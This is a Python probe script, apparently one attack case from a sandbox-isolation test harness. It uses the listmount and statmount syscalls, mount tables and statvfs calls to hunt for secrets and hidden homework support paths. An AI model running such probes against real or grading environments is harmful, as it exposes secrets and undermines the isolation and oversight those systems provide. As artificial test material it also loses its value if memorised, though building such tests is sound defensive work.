"""Looks for secrets in the table of mounts."""

# /// attack
# uses = ["looking"]
# looks_for = ["SECRETS", "REPOSITORY", "TEMPORARY"]
# numbers = {"looked at" = [5, inf]}
# prints = ["said [('listmount'"]
# ///

# %% before
libc = ctypes.CDLL(None, use_errno=True)
said = []
class Request(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint32), ("spare", ctypes.c_uint32), ("mount", ctypes.c_uint64),
                ("parameter", ctypes.c_uint64), ("namespace", ctypes.c_uint64)]
ids = (ctypes.c_uint64 * 500)()
for size in (24, 32):
    request = Request(size, 0, 0xFFFFFFFFFFFFFFFF, 0, 0)  # below the root
    count = libc.syscall(458, ctypes.byref(request), ids, 500, 0)
    said.append(("listmount", count, errno.errorcode.get(ctypes.get_errno())))
    for mount in [*ids[: max(count, 0)], *range(1, 500)]:
        buffer = ctypes.create_string_buffer(20_000)
        request = Request(size, 0, mount, 0xFFF, 0)
        if libc.syscall(457, ctypes.byref(request), buffer, len(buffer), 0) == 0:
            search("mount", buffer.raw)
for path in ("/etc/mtab", "/proc/mounts", "/proc/self/mountinfo", "/run/mount/utab"):
    if os.path.exists(path):
        search(path, open(path, "rb").read())
for path in ("/", "/opt/homework/hw_support", "/usr", "/run/kernel", "/home/student"):
    search("statvfs", os.statvfs(path))
report()
print("said", said)
